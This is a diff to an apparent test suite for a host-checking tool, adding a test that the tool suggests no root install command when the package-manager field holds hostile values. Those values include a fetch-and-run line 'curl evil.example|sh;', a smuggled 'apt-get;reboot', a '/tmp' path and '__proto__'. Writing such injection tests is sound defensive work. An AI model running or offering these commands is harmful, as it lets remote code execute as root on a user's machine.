@@ -36,6 +36,11 @@ describe('a host that is looked at', () => {
     expect(check(`ip \npackages dnf\n${WELL}`, 'host_ip')?.remedy?.command).toEqual(['dnf', 'install', 'iproute']);
   });
 
+  it('names no program of its own in what a person is to type as root', () => {
+    for (const manager of ['curl evil.example|sh;', 'pacman', '/tmp/apt-get', 'apt-get;reboot', '__proto__'])
+      expect(check(`ip \npackages ${manager}\n${WELL}`, 'host_ip')?.remedy?.command).toBeNull();
+  });
+
   it('mutes its guests only when bridged frames are filtered and FORWARD drops them, and Docker has its own remedy', () => {
     const drops = but('forward', 'policy drop');
     expect(check(drops, 'host_bridge_filter')?.state).toBe('ok');
